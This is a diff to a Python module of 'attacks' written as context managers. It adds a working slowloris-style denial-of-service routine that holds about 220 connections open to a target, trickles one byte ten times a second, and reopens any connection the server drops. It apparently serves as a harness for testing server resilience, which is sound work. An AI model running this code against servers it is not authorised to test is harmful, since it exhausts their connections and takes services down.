@@ -4,6 +4,7 @@ Each attack is a context manager. It ends with its block, in every case.
 """
 
 import asyncio
+import contextlib
 import itertools
 from collections import Counter
 from collections.abc import AsyncIterator, Coroutine, Sequence
@@ -107,3 +108,52 @@ async def _meanwhile(work: Coroutine[None, None, None]) -> AsyncIterator[None]:
     finally:
         task.cancel()
         await asyncio.gather(task, return_exceptions=True)
+
+
+@asynccontextmanager
+async def requests(
+    target: str, sent: bytes, *, count: int = 220, byte: bytes = b"x", sender: str = "127.0.0.1"
+) -> AsyncIterator[Attack]:
+    """Holds connections open inside the block, and opens another one for each that the server closes.
+
+    Args:
+        sent: the first bytes of each, such as the headers of a webhook.
+        byte: is sent again and again after that; empty for silence.
+        sender: the address of this side.
+    """
+    attack = Attack()
+    async with asyncio.TaskGroup() as group:
+        holding = [group.create_task(_hold_request(attack, target, sent, byte, sender)) for _ in range(count)]
+        try:
+            yield attack
+        finally:
+            for task in holding:
+                task.cancel()
+
+
+async def _hold_request(attack: Attack, target: str, sent: bytes, byte: bytes, sender: str) -> None:
+    host, _, port = target.rpartition(":")
+    while True:
+        with contextlib.suppress(OSError):
+            reader, writer = await asyncio.open_connection(host, int(port), local_addr=(sender, 0))
+            attack.opened += 1
+            try:
+                writer.write(sent)
+                await _trickle(reader, writer, byte)
+            finally:
+                attack.ended[-1] += 1
+                writer.close()
+        await asyncio.sleep(_TICK)
+
+
+async def _trickle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, byte: bytes) -> None:
+    """Sends a byte ten times a second until the server ends the connection or answers."""
+    answered = asyncio.ensure_future(reader.read(1))
+    try:
+        while not answered.done():
+            writer.write(byte)
+            await asyncio.wait([answered], timeout=0.1)
+        await answered
+    finally:
+        answered.cancel()
+        await asyncio.gather(answered, return_exceptions=True)
